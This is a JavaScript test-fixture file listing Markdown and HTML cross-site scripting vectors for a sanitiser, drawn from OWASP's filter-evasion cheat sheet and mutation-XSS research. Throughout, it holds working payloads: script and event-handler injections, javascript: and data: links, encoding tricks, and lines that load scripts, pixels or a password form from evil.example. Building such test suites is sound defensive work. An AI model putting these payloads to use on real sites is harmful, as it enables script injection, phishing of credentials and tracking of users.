// Markdown made to run a script (`alert`), to load something, or to look like what it is not. Written for these tests
// after published families: OWASP's XSS Filter Evasion Cheat Sheet, the mutation XSS of Heiderich et al. ("mXSS
// Attacks", 2013) and later bypasses of sanitisers by foreign content, and lists of Markdown payloads.

const html = [
  '<script>alert(1)</script>', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script/x>alert(1)</script>', '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>', '<img src="x" onerror="alert(1)">', '<img/src=x/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<img src=`x` onerror=alert(1)>', '<image src=x onerror=alert(1)>',
  '<img src=https://evil.example/pixel>', '<img srcset="https://evil.example/pixel 1x">',
  '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>alert(1)</script></svg>#x">',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<object data="javascript:alert(1)">', '<embed src="https://evil.example/x.swf">', '<frameset onload=alert(1)>',
  '<body onload=alert(1)>', '<body background="https://evil.example/x">', '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>', '<style>*{background:url(https://evil.example/x)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>', '<div style="position:fixed;inset:0">x</div>',
  '<form action=https://evil.example/><input name=password><button>Sign in</button></form>',
  '<input onfocus=alert(1) autofocus>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>', '<x onclick=alert(1)>x</x>', '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>', '<a href="https://a.example" onmouseover=alert(1)>x</a>',
  '<a href="https://a.example" target=_blank rel=opener>x</a>', '<button onclick=alert(1)>x</button>',
  '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<svg><foreignObject><p><iframe/onload=alert(1)></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>', '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>', '<!--><img src=x onerror=alert(1)>-->', '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<!DOCTYPE x [<!ENTITY y "z">]>',
  '<a id=location><a id=location name=href href="https://evil.example/">', '<img name=getElementById>',
  '</p></div></body><script>alert(1)</script>', '<table><td background="javascript:alert(1)">',
];

const links = [
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x]( javascript:alert(1))', '[x](<javascript:alert(1)>)',
  '[x](<java\tscript:alert(1)>)', '[x](java&Tab;script:alert(1))', '[x](&#106;avascript:alert(1))', '[x](&#x6A;avascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))', '[x](\\javascript:alert(1))', '[x](%6Aavascript:alert(1))', '[x](&#1;javascript:alert(1))',
  '[x](javascript://example.com/%0Aalert(1))', '[x](javascript:alert&#40;1&#41;)', '[x](vbscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://evil.example/1)', '[x](file:///etc/passwd)', '[x](//evil.example/x)', '[x](/graphql?query={x})', '[x](?a)',
  '[x](https://example.com@evil.example/)', '[x](https://user:word@evil.example/)', '[x]: javascript:alert(1)\n\n[x]',
  '[x][y]\n\n[y]: <javascript:alert(1)> "z"', '<javascript:alert(1)>', '<data:text/html,x>', '<vbscript:alert(1)>',
  '[x](https://a.example" onmouseover="alert(1))', '[x](https://a.example \'" onmouseover="alert(1)\')',
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")', '[x](https://a.example/&quot;onclick=&quot;alert(1))',
  '[x](<https://a.example/><script>alert(1)</script>)', '[<img src=x onerror=alert(1)>](https://a.example)',
  '[![x](javascript:alert(1))](javascript:alert(1))', '[x](mailto:a@b.example?subject=<script>alert(1)</script>)',
  '[a [b](javascript:alert(1)) c](https://a.example)', '<https://a.example/"onmouseover=alert(1)//>', '<a@b.example"onclick=alert(1)>',
];

const images = [
  '![x](https://evil.example/pixel.png)', '![x](javascript:alert(1))', '![x](x" onerror="alert(1))', '![x](x \'" onerror="alert(1)\')',
  '![<script>alert(1)</script>](x)', '![x][y]\n\n[y]: https://evil.example/pixel.png', '![" onerror="alert(1)](x)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)', '[![x](https://evil.example/pixel.png)](https://a.example)',
];

const blocks = [
  '```"><script>alert(1)</script>\nx\n```', '```html onclick=alert(1)\n<script>alert(1)</script>\n```', '~~~</code></pre><script>alert(1)</script>\n~~~',
  '`</code><script>alert(1)</script>`', '# <img src=x onerror=alert(1)> {onclick=alert(1)}', '    <script>alert(1)</script>',
  '|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|', '> <script>\n> alert(1)\n> </script>',
  '- <iframe src=javascript:alert(1)>\n- <svg onload=alert(1)>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;',
  '\\<script>alert(1)</script>', '<scr\\ipt>alert(1)</scr\\ipt>', '**<img src=x onerror=alert(1)>**', '~~<svg onload=alert(1)>~~',
  '1. <style>*{display:none}</style>', '<div>\n\n<script>\nalert(1)\n\n</script>\n\n</div>', '\u2028<script>alert(1)</script>\u2029',
  'x\ufeff<script>alert(1)</script>', '＜script＞alert(1)＜/script＞', '<ſcript>alert(1)</ſcript>', '[^1]\n\n[^1]: <script>alert(1)</script>',
];

export const vectors = [...html, ...links, ...images, ...blocks];
/** Those that work where nothing is sanitised, so that it is known that the watch notices. */
export const working = ['<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<p style="background:url(https://evil.example/x)">x</p>'];
